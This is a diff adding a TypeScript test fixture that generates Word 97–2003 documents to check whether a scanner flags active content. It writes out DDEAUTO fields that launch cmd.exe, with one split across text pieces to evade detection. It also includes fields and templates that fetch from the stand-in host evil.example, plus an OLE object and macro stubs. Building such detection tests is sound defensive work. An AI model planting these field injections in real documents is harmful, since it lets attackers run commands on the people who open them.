@@ -1,0 +1,78 @@
+import * as make from '../make-test-documents.ts';
+import type { SampleRow } from './document-sample.ts';
+
+const MARKS = { begin: '\u0013', separate: '\u0014', end: '\u0015' };
+const docField = (text: string) => `${MARKS.begin}${text}${MARKS.separate}x${MARKS.end}`;
+
+/** A Word 97–2003 document with text in pieces, alternately 8 and 16 bits wide and stored in reverse order. */
+export function makeDocOfText(
+  pieces: string[],
+  templatePath = 'Normal.dot',
+  more: Record<string, Buffer> = {},
+): Buffer {
+  const head = Buffer.concat([make.wordHead(), Buffer.alloc(pieces.join('').length * 2 + 2_000)]);
+  const stored: number[] = [];
+  let at = 2_048;
+  for (const [i, text] of [...pieces.entries()].reverse()) {
+    const isWide = i % 2 === 1;
+    stored[i] = isWide ? at : (at * 2) | 0x40000000;
+    at += head.write(text, at, isWide ? 'utf16le' : 'latin1');
+  }
+  const positions = [0];
+  for (const text of pieces) positions.push((positions.at(-1) ?? 0) + text.length);
+  const table = Buffer.alloc((pieces.length + 1) * 4 + pieces.length * 8);
+  for (const [i, position] of positions.entries()) table.writeUInt32LE(position, i * 4);
+  for (const [i, position] of stored.entries()) table.writeUInt32LE(position, (pieces.length + 1) * 4 + i * 8 + 2);
+  const clx = Buffer.concat([Buffer.from([1, 2, 0, 0, 0, 2, 0, 0, 0, 0]), table]);
+  clx.writeUInt32LE(table.length, 6);
+  const strings = ['', templatePath].map((text) => {
+    const length = Buffer.alloc(2);
+    length.writeUInt16LE(text.length);
+    return Buffer.concat([length, Buffer.from(text, 'utf16le')]);
+  });
+  const associated = Buffer.concat([Buffer.from('ffff02000000', 'hex'), ...strings]);
+  const tables = Buffer.concat([Buffer.alloc(16), clx, associated, Buffer.alloc(4_096)]);
+  for (const [offset, value] of [
+    [0x1a2, 16],
+    [0x1a6, clx.length],
+    [0x19a, 16 + clx.length],
+    [0x19e, associated.length],
+  ] as const)
+    head.writeUInt32LE(value, offset);
+  return make.makeCompoundFile({ WordDocument: head, '1Table': tables, ...more });
+}
+
+const rawDoc = (text: Buffer) => {
+  const head = make.wordHead();
+  text.copy(head, 1_000);
+  return make.makeCompoundFile({ WordDocument: head, '1Table': Buffer.alloc(4_096) });
+};
+
+/** Word 97–2003 documents (.doc) with fields, templates and macros that act, and genuine ones that resemble them. */
+export const hostileWord97Documents: SampleRow[] = [
+  ['DDEAUTO', () => makeDocOfText([docField(' DDEAUTO c:\\\\cmd.exe ')]), 'active'],
+  [
+    'DDEAUTO split over pieces',
+    () => makeDocOfText(['Resume \u0013 D', 'd', 'Eau', 'to c:\\\\cmd.exe \u0014x\u0015']),
+    'active',
+  ],
+  ['DDE in a nested field', () => makeDocOfText(['\u0013IF 1 = 1 ', docField('DDE x y'), '\u0015']), 'active'],
+  ['DDEAUTO without a piece table', () => rawDoc(Buffer.from('\u0013 DDEAUTO x\u0015', 'latin1')), 'active'],
+  ['DDEAUTO without a piece table, 16 bits', () => rawDoc(Buffer.from('\u0013 DDEAUTO x\u0015', 'utf16le')), 'active'],
+  ['INCLUDEPICTURE', () => makeDocOfText([docField('INCLUDEPICTURE "http://evil.example/a.png"')]), 'active'],
+  ['LINK', () => makeDocOfText([docField('LINK Word.Document.8 "\\\\\\\\evil.example\\\\a.doc"')]), 'active'],
+  ['template from the web', () => makeDocOfText(['Resume'], 'http://evil.example/t.dot'), 'active'],
+  ['template from a share', () => makeDocOfText(['Resume'], '\\\\evil.example\\s\\t.dot'), 'active'],
+  [
+    'OLE object',
+    () => makeDocOfText(['Resume'], undefined, { 'ObjectPool/_1234/\u0001Ole': Buffer.alloc(20) }),
+    'active',
+  ],
+  ['macros', () => makeDocOfText(['Resume'], undefined, { 'Macros/VBA/dir': Buffer.alloc(20) }), 'macros'],
+  [
+    'ordinary fields',
+    () => makeDocOfText(['Resume ', docField('PAGE'), docField('HYPERLINK "https://example.com"'), ' DDEAUTO x']),
+    'doc',
+  ],
+  ['template of its machine', () => makeDocOfText(['Resume'], 'C:\\Templates\\Resume.dot'), 'doc'],
+];
